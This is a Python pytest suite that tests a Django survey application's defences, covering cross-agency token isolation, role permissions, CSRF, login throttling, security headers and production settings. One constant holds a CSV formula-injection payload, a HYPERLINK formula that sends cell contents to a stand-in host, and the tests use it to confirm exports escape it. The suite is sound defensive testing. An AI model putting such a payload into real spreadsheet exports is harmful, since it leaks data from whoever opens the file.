"""The attacks a reviewer would try, each refused the way a user would see it."""

import csv
import datetime
import hashlib
import io
import os
import re
import secrets
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.db import connection
from django.template.loader import render_to_string
from django.test import Client
from django.urls import reverse

from surveys.campaigns import services as campaign_services
from surveys.models import (
    Agency,
    Answer,
    Campaign,
    InvitationLink,
    Question,
    Questionnaire,
    UserRole,
)
from surveys.models import Response as SurveyResponse
from surveys.respond import services as response_services
from tests.conftest import make_agency, make_user, submit_ratings

pytestmark = pytest.mark.django_db
Role = UserRole.Role
BASE_DIR = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def url(name, *args):
    return reverse(name, args=args)


def answers_of(invitation):
    return dict(
        Answer.objects.filter(response__invitation=invitation).values_list(
            "question__code", "value"
        )
    )


def section_post(client, token, code, values, **extra):
    page = client.get(url("surveys:section", token, code))
    return client.post(
        url("surveys:section", token, code),
        {**values, "version": page.context["version"], "action": "save"},
        **extra,
    )


@pytest.fixture
def other(campaign):
    """A Brazilian agency invited to the same campaign, with an answer saved."""
    agency = make_agency("Brazilian unit", "BR", Agency.Kind.PROSECUTION)
    invitation, token = campaign_services.invitation_create(campaign=campaign, agency=agency)
    response = response_services.response_open(invitation=invitation)
    questions = list(Question.objects.filter(questionnaire=campaign.questionnaire))
    response_services.response_save_answers(
        response=response, questions=questions, values={"DF-01_imp": "2"}, base_version=0
    )
    return invitation, token


# Another agency's link ----------------------------------------------------------


def test_a_token_opens_only_its_own_agencys_response(client, token, invitation, other):
    other_invitation, _ = other

    page = client.get(url("surveys:start", token))

    assert "Cybercrime Unit" in page.content.decode()
    assert "Brazilian unit" not in page.content.decode()
    page = client.get(url("surveys:section", token, "forensics"))
    assert page.context["form"].fields["DF-01_imp"].initial == ""


def test_a_token_writes_only_its_own_response_whatever_the_post_claims(
    client, token, invitation, other
):
    other_invitation, _ = other
    other_response = other_invitation.response

    reply = section_post(
        client,
        token,
        "forensics",
        {
            "DF-01_imp": "5",
            "response": other_response.pk,
            "invitation": other_invitation.pk,
            "agency": other_invitation.agency_id,
        },
    )

    assert reply.status_code == 302
    assert answers_of(invitation) == {"DF-01_imp": "5"}
    assert answers_of(other_invitation) == {"DF-01_imp": "2"}


def test_changing_the_section_in_the_url_stays_in_the_same_response(
    client, token, invitation, other
):
    other_invitation, _ = other

    assert client.get(url("surveys:section", token, "no-such-section")).status_code == 404
    assert client.get(f"/r/{token}/section/%2E%2E/").status_code == 404
    section_post(client, token, "data_access", {"AD-01_imp": "4"})

    assert answers_of(invitation) == {"AD-01_imp": "4"}
    assert answers_of(other_invitation) == {"DF-01_imp": "2"}


def test_a_coordinator_cannot_reach_an_invitation_through_another_campaigns_url(
    client, coordinator, invitation, questionnaire
):
    other_campaign = campaign_services.campaign_create(
        code="R2",
        name="Round two",
        questionnaire=questionnaire,
        opens_on=datetime.date(2026, 1, 1),
        closes_on=datetime.date(2026, 12, 31),
    )
    campaign_services.invitation_create(campaign=other_campaign, agency=make_agency("Other", "BR"))
    client.force_login(coordinator)

    reply = client.post(url("surveys:invitation_new_link", "R2", invitation.pk))

    assert reply.status_code == 404
    assert InvitationLink.objects.filter(invitation=invitation).count() == 1


def test_a_mistyped_or_truncated_token_opens_nothing(client, token):
    altered = token[:-1] + ("A" if token[-1] != "A" else "B")

    for attempt in (altered, token[:-4], token + "x", token.upper()):
        page = client.get(url("surveys:start", attempt))
        assert page.status_code == 404
        assert "This link is not valid" in page.content.decode()
        assert "Cybercrime Unit" not in page.content.decode()


def test_tokens_carry_at_least_128_bits_and_are_stored_only_as_sha256(invitation, token):
    assert len(token) >= 22 and re.fullmatch(r"[A-Za-z0-9_\-]+", token)
    link = InvitationLink.objects.get(invitation=invitation)
    assert link.token_hash == hashlib.sha256(token.encode()).hexdigest()

    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            quoted = connection.ops.quote_name(table)
            cursor.execute(f"SELECT * FROM {quoted}")
            for row in cursor.fetchall():
                assert not any(token in str(cell) for cell in row), f"raw token in {table}"


# What each role may see -------------------------------------------------------------


@pytest.fixture
def submitted(invitation, other):
    """The Kenyan agency has submitted; the Brazilian one has answered in part."""
    submit_ratings(invitation, {"DF-01": (5, 2)})
    return invitation


def test_a_trainer_never_sees_one_agencys_answers(client, trainer, submitted, campaign):
    client.force_login(trainer)

    page = client.get(url("analysis:competency", "R1", "DF-01"))
    assert page.status_code == 200
    assert "agencies" not in page.context
    assert "Cybercrime Unit" not in page.content.decode()

    assert client.get(url("surveys:campaign", "R1")).status_code == 403
    assert client.get(url("audit:page", "R1")).status_code == 403
    assert client.get(url("audit:csv", "R1")).status_code == 403
    admin = client.get("/admin/surveys/response/")
    assert admin.status_code == 302 and admin["Location"].startswith("/admin/login/")


def test_a_focal_point_sees_only_their_own_country(client, focal_point, submitted, campaign):
    client.force_login(focal_point)

    dashboard = client.get(url("analysis:dashboard", "R1") + "?country=BR")
    assert dashboard.context["filters"].country == "KE"
    assert "Brazil" not in dashboard.content.decode()

    page = client.get(url("surveys:campaign", "R1"))
    assert page.status_code == 200
    assert "Cybercrime Unit" in page.content.decode()
    assert "Brazilian unit" not in page.content.decode()

    assert client.get(url("audit:page", "R1")).status_code == 403
    assert client.get(url("audit:csv", "R1")).status_code == 403
    assert client.get("/admin/surveys/response/").status_code == 302


def test_a_focal_point_of_a_country_not_invited_is_told_the_campaign_does_not_exist(
    client, submitted
):
    client.force_login(make_user("focal-fj", Role.FOCAL_POINT, "FJ"))

    assert client.get(url("surveys:campaign", "R1")).status_code == 404
    assert client.get(url("audit:page", "R1")).status_code == 404


# Cross-site request forgery -----------------------------------------------------


@pytest.fixture
def csrf_client():
    return Client(enforce_csrf_checks=True)


def test_a_section_save_without_the_csrf_token_is_refused_and_saves_nothing(
    csrf_client, token, invitation
):
    page = csrf_client.get(url("surveys:section", token, "forensics"))

    reply = csrf_client.post(
        url("surveys:section", token, "forensics"),
        {"DF-01_imp": "5", "version": page.context["version"], "action": "save"},
    )

    assert reply.status_code == 403
    assert "your answers on that page were" in reply.content.decode().lower()
    assert answers_of(invitation) == {}


def test_a_submit_without_the_csrf_token_is_refused(csrf_client, token, invitation):
    csrf_client.get(url("surveys:review", token))

    reply = csrf_client.post(url("surveys:submit", token))

    assert reply.status_code == 403
    invitation.response.refresh_from_db()
    assert invitation.response.status == SurveyResponse.Status.DRAFT


def test_a_coordinator_action_without_the_csrf_token_is_refused(
    csrf_client, coordinator, invitation
):
    csrf_client.force_login(coordinator)
    csrf_client.get(url("surveys:campaign", "R1"))

    reply = csrf_client.post(url("surveys:campaign_close", "R1"))

    assert reply.status_code == 403
    assert Campaign.objects.get(code="R1").closed_at is None


# Formula injection ---------------------------------------------------------------


def test_a_formula_typed_by_a_respondent_stays_text_in_the_audit_csv(
    client, coordinator, token, invitation
):
    section_post(client, token, "profile", {"profile_comment": FORMULA})
    assert answers_of(invitation)["profile_comment"] == FORMULA
    client.force_login(coordinator)

    reply = client.get(url("audit:csv", "R1"))

    cells = [cell for row in csv.reader(io.StringIO(reply.content.decode())) for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_formulas_stay_text_in_the_gap_csv(client, coordinator, submitted, questionnaire):
    # Statements come from the imported form: an XLSForm author is a stranger too.
    for question in Question.objects.filter(questionnaire=questionnaire, competency="DF-01"):
        question.label = {key: FORMULA for key in question.label}
        question.save(update_fields=["label"])
    client.force_login(coordinator)

    reply = client.get(url("analysis:gaps_csv", "R1"))

    rows = list(csv.reader(io.StringIO(reply.content.decode())))
    df01 = next(row for row in rows if row and row[0] == "DF-01")
    assert df01[1] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


# Oversized posts and uploads ------------------------------------------------------


def test_a_post_with_too_many_fields_gets_the_plain_400_page(client, token, invitation):
    fields = {f"field{number}": "x" for number in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}

    reply = client.post(url("surveys:section", token, "profile"), fields)

    assert reply.status_code == 400
    assert "too large" in reply.content.decode()
    assert "Traceback" not in reply.content.decode()
    assert answers_of(invitation) == {}


def test_a_post_larger_than_the_limit_gets_the_plain_400_page(client, token):
    big = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)

    reply = client.post(url("surveys:section", token, "profile"), {"profile_comment": big})

    assert reply.status_code == 400
    assert "too large" in reply.content.decode()


def test_an_xlsform_above_the_size_limit_is_refused_in_the_admin(
    client, settings, shipped_form_bytes
):
    settings.XLSFORM_MAX_UPLOAD_BYTES = 1024
    client.force_login(get_user_model().objects.create_superuser("root", "r@example.org", "pw"))
    data = io.BytesIO(shipped_form_bytes)
    data.name = "tna.xlsx"

    page = client.post(reverse("admin:surveys_questionnaire_import"), {"file": data})

    assert page.status_code == 200
    assert "the limit is 1 KB" in page.content.decode()
    assert Questionnaire.objects.count() == 0


# Login throttling -------------------------------------------------------------------


def log_in(client, path, username, password, **extra):
    return client.post(path, {"username": username, "password": password}, **extra)


@pytest.mark.parametrize("path", ["/accounts/login/", "/admin/login/"])
def test_five_wrong_passwords_lock_the_username_from_that_address(client, path):
    user = get_user_model().objects.create_superuser("coord", "c@example.org", "right-one")
    for _ in range(5):
        log_in(client, path, "coord", "wrong")

    reply = log_in(client, path, "coord", "right-one")

    assert reply.status_code == 429
    assert "Too many failed log-in attempts" in reply.content.decode()
    assert "_auth_user_id" not in client.session
    # The lock is on the pair: the same user elsewhere, another user here, may log in.
    assert log_in(Client(), path, "coord", "right-one", REMOTE_ADDR="10.0.0.9").status_code == 302
    get_user_model().objects.create_superuser("colleague", "k@example.org", "their-own")
    assert log_in(Client(), path, "colleague", "their-own").status_code == 302
    assert user.is_active


def test_behind_the_proxy_the_address_is_the_one_the_proxy_saw(client, settings):
    settings.BEHIND_PROXY = True
    get_user_model().objects.create_user("coord", "c@example.org", "right-one")
    proxy = {"REMOTE_ADDR": "127.0.0.1"}
    for spoofed in range(5):
        # The client invents a first entry each time; nginx appends what it saw.
        forwarded = f"198.51.100.{spoofed}, 203.0.113.7"
        log_in(
            client, "/accounts/login/", "coord", "wrong", HTTP_X_FORWARDED_FOR=forwarded, **proxy
        )

    again = log_in(
        Client(),
        "/accounts/login/",
        "coord",
        "right-one",
        HTTP_X_FORWARDED_FOR="198.51.100.99, 203.0.113.7",
        **proxy,
    )
    elsewhere = log_in(
        Client(),
        "/accounts/login/",
        "coord",
        "right-one",
        HTTP_X_FORWARDED_FOR="203.0.113.8",
        **proxy,
    )

    assert again.status_code == 429
    assert elsewhere.status_code == 302


def test_four_wrong_passwords_do_not_lock(client):
    get_user_model().objects.create_user("coord", "c@example.org", "right-one")
    for _ in range(4):
        log_in(client, "/accounts/login/", "coord", "wrong")

    assert log_in(client, "/accounts/login/", "coord", "right-one").status_code == 302


# Headers and pages ------------------------------------------------------------------


@pytest.fixture
def pages(client, coordinator, token, submitted):
    """A respondent page, a dashboard page and an admin page."""
    respondent = client.get(url("surveys:done", token))
    client.force_login(coordinator)
    dashboard = client.get(url("analysis:dashboard", "R1"))
    client.force_login(get_user_model().objects.create_superuser("root", "r@example.org", "pw"))
    admin = client.get("/admin/surveys/campaign/")
    return [respondent, dashboard, admin]


def test_every_page_sends_the_security_headers(pages):
    for page in pages:
        assert page.status_code == 200
        policy = page["Content-Security-Policy"]
        for directive in (
            "default-src 'self'",
            "img-src 'self' data:",
            "style-src 'self'",
            "script-src 'self'",
            "frame-ancestors 'none'",
            "form-action 'self'",
            "base-uri 'none'",
            "object-src 'none'",
        ):
            assert directive in policy
        assert "unsafe-inline" not in policy
        assert page["X-Content-Type-Options"] == "nosniff"
        assert page["Referrer-Policy"] == "same-origin"
        assert page["X-Frame-Options"] == "DENY"
        assert page["Cross-Origin-Opener-Policy"] == "same-origin"


INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
INLINE_STYLE = re.compile(r"""\sstyle\s*=\s*["']|<style\b|\son[a-z]+\s*=\s*["']""", re.IGNORECASE)


def test_our_pages_need_no_inline_script_or_style(client, token, submitted, other):
    _, draft_token = other
    respondent_urls = [
        url("surveys:start", draft_token),
        url("surveys:section", draft_token, "profile"),
        url("surveys:section", draft_token, "forensics"),
        url("surveys:review", draft_token),
        url("surveys:done", token),
        "/accounts/login/",
    ]
    pages = [client.get(address) for address in respondent_urls]
    client.force_login(get_user_model().objects.create_superuser("root", "r@example.org", "pw"))
    for address in [
        url("surveys:campaigns"),
        url("surveys:campaign", "R1"),
        url("analysis:dashboard", "R1"),
        url("analysis:competency", "R1", "DF-01"),
        url("analysis:domain", "R1", "forensics"),
        url("audit:page", "R1"),
        "/admin/",
        "/admin/surveys/invitation/",
    ]:
        pages.append(client.get(address))

    for page in pages:
        html = page.content.decode()
        assert page.status_code == 200, page.request["PATH_INFO"]
        assert not INLINE_SCRIPT.search(html), page.request["PATH_INFO"]
        assert not INLINE_STYLE.search(html), page.request["PATH_INFO"]


@pytest.mark.parametrize(
    ("template", "says"),
    [
        ("400.html", "too large"),
        ("403.html", "not allowed"),
        ("403_csrf.html", "not saved"),
        ("404.html", "no such page"),
        ("500.html", "went wrong"),
    ],
)
def test_error_pages_render_without_a_request_and_say_what_happened(template, says):
    html = render_to_string(template)

    assert says in html.lower()
    assert not INLINE_SCRIPT.search(html) and not INLINE_STYLE.search(html)


def test_an_unknown_address_gets_the_plain_404_page(client):
    page = client.get("/no/such/page/")

    assert page.status_code == 404
    assert "There is no such page" in page.content.decode()


# Production settings ------------------------------------------------------------------


def production_env(**extra):
    """The environment of a production server: none of the test run's
    DJANGO_* variables (the browser tests set DJANGO_ALLOW_ASYNC_UNSAFE)."""
    env = {key: value for key, value in os.environ.items() if not key.startswith("DJANGO_")}
    env |= {
        "DJANGO_SETTINGS_MODULE": "needsassessment.settings",
        "DJANGO_DEBUG": "0",
        "DJANGO_SECRET_KEY": secrets.token_urlsafe(50),
        "DJANGO_ALLOWED_HOSTS": "example.org",
    }
    env.update(extra)
    return env


def manage(*args, env):
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_the_deployment_check_passes_with_production_settings():
    result = manage("check", "--deploy", "--fail-level", "WARNING", env=production_env())

    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_behind_a_proxy_django_trusts_its_forwarded_proto_header():
    show = (
        "from django.conf import settings as s; "
        "print(s.SECURE_PROXY_SSL_HEADER, s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS, "
        "s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.CSRF_TRUSTED_ORIGINS)"
    )
    env = production_env(
        DJANGO_BEHIND_PROXY="1", DJANGO_CSRF_TRUSTED_ORIGINS="https://tna.example.org"
    )

    result = manage("shell", "-c", show, env=env)

    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().splitlines()[-1] == (
        "('HTTP_X_FORWARDED_PROTO', 'https') True 31536000 True True ['https://tna.example.org']"
    )
